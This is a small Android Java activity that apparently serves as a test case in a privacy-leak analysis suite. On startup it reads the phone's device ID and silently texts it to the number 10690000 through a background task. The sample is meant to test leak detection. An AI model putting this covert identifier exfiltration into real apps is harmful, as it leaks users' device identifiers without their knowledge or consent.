package cn.privlens.suite.task_second_parameter;

import android.app.Activity;
import android.os.AsyncTask;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Send extends AsyncTask<String, Void, Void> {
        @Override
        protected Void doInBackground(String... parameters) {
            SmsManager.getDefault().sendTextMessage("10690000", null, parameters[1], null, null);
            return null;
        }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Send().execute("head", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
    }
}
